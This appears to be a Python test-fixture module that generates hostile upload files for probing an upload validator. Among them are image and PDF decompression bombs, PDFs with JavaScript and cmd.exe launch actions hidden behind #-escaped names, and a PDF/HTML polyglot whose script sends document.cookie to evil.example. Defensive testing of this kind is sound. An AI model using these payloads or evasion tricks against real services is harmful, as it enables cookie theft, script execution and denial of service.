"""Hostile uploads made on the fly, each a small file: what the security probe of issue 19 sent."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_pixel_bomb(width: int = 13_000, height: int = 13_000) -> bytes:
    """A valid greyscale PNG of width x height pixels, all black: a few hundred KiB on the wire."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + one byte per pixel
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_bytes(size: tuple[int, int] = (360, 450), *, exif_gps: bool = False) -> bytes:
    image = Image.new("RGB", size, (30, 120, 200))
    out = io.BytesIO()
    options = {}
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "SpyCam Ltd"  # Make
        exif[0x8825] = {2: (39.0, 54.0, 27.0), 1: "N"}  # GPS latitude
        options["exif"] = exif
    image.save(out, format="JPEG", **options)
    return out.getvalue()


def jpeg_with_html_appended() -> bytes:
    return jpeg_bytes() + b"<html><body><script>fetch('/api/applications/')</script></body></html>"


def _pdf_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def _written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_open_action_javascript() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('owned')"),
        }
    )
    return _written(writer)


def pdf_open_action_javascript_name_escaped() -> bytes:
    """The same action with its names written in #-escapes, which a byte search does not see."""
    return pdf_open_action_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_launch_action() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return _written(writer).replace(b"/Launch", b"/L#61unch")


def pdf_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def pdf_html_polyglot() -> bytes:
    """A PDF that a browser sniffing it would also take for a web page."""
    pdf = _written(_pdf_writer())
    header, rest = pdf.split(b"\n", 1)
    return (
        header
        + b"\n%<html><script>document.location='https://evil.example/'+document.cookie</script>\n"
        + rest
    )


def pdf_deflate_bomb(expanded_mib: int = 200) -> bytes:
    """A PDF with one FlateDecode stream that inflates to ``expanded_mib`` MiB of zeros (~200 KiB stored)."""
    from pypdf.generic import NameObject, StreamObject

    packer = zlib.compressobj(9)
    block = b"\x00" * (1024 * 1024)
    compressed = b"".join(packer.compress(block) for _ in range(expanded_mib)) + packer.flush()
    writer = _pdf_writer()
    stream = StreamObject()
    stream._data = compressed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    reference = writer._add_object(stream)
    writer._root_object[NameObject("/Bomb")] = reference
    return _written(writer)


def plain_pdf() -> bytes:
    return _written(_pdf_writer())
